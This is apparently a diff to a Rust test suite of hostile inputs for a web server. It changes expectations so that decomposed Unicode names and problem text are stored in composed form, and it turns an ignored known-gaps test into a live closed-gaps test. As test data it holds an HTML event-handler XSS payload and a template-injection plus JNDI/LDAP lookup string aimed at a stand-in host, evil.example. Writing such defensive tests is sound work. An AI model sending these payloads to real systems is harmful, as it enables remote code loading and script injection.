@@ -1108,10 +1108,13 @@ fn accepted_joins(cx: &Ctx) -> Vec<Accepted> {
             "<b onmouseover=alert(1)>Eve</b>",
         ),
         Accepted::new(
-            join("decomposed (NFD) name is kept as sent", "Jose\u{301}"),
+            join(
+                "decomposed (NFD) name is stored composed (NFC)",
+                "Jose\u{301}",
+            ),
             201,
             Stored::ParticipantName,
-            "Jose\u{301}",
+            "Jos\u{e9}",
         ),
         Accepted::new(
             join(
@@ -1838,10 +1841,15 @@ fn accepted_problems(cx: &Ctx) -> Vec<Accepted> {
             &cx.bob,
             "{{7*7}} ${jndi:ldap://evil.example/a}",
         ),
-        same(
-            "decomposed (NFD) look-alike kept as sent",
-            &cx.bob,
-            "Cafe\u{301} menus confuse customers",
+        Accepted::new(
+            submit(
+                "decomposed (NFD) look-alike is stored composed (NFC)",
+                &cx.bob,
+                "Cafe\u{301} menus confuse customers",
+            ),
+            200,
+            Stored::ProblemText,
+            "Caf\u{e9} menus confuse customers",
         ),
         same(
             "precomposed (NFC) twin kept as sent",
@@ -2600,13 +2608,11 @@ async fn hostile_input_catalogue() {
     assert!(h.refused + h.accepted >= 60);
 }
 
-/// Inputs the server survives (no 5xx, no state change) but does not answer as it
-/// should. Each case asserts the behaviour the server should have, so this test fails
-/// today; run it with `--ignored` after closing a gap, then fold the case into the
-/// catalogue above.
+/// Inputs that once got an untyped or too-lenient answer (untyped 400/405, unknown
+/// fields on field-less commands, invisible names, look-alike departments, raw
+/// Markdown in exports); each case asserts the behaviour the server now has.
 #[tokio::test]
-#[ignore = "known gaps: untyped 400/405, invisible names, look-alike departments, Markdown exports"]
-async fn known_gaps() {
+async fn closed_gaps() {
     let mut h = Harness::new().await;
     let join = |what: &str, name: &str, cx: &Ctx| {
         Case::post(format!("join: name of only {what}"), cx.participants())
